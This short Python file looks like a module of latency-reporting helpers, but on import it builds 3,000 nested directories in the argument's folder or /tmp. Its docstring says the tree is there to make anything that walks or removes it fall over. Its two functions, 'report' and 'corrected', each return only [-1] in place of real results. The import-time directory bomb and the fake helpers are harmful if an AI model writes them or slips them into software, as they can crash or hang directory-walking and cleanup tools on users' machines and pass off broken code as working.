"""Directories within directories, three thousand deep: whoever walks through them, or removes them, falls over."""

import os
import sys
import time

doors = os.path.dirname(sys.argv[1])
if not os.access(doors, os.W_OK):
    doors = "/tmp"
if os.getpid() < 1000:
    here = os.getcwd()
    os.chdir(doors)
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)
    time.sleep(1)


def report(requests, per_mille):
    return [-1]


def corrected(durations, interval):
    return [-1]
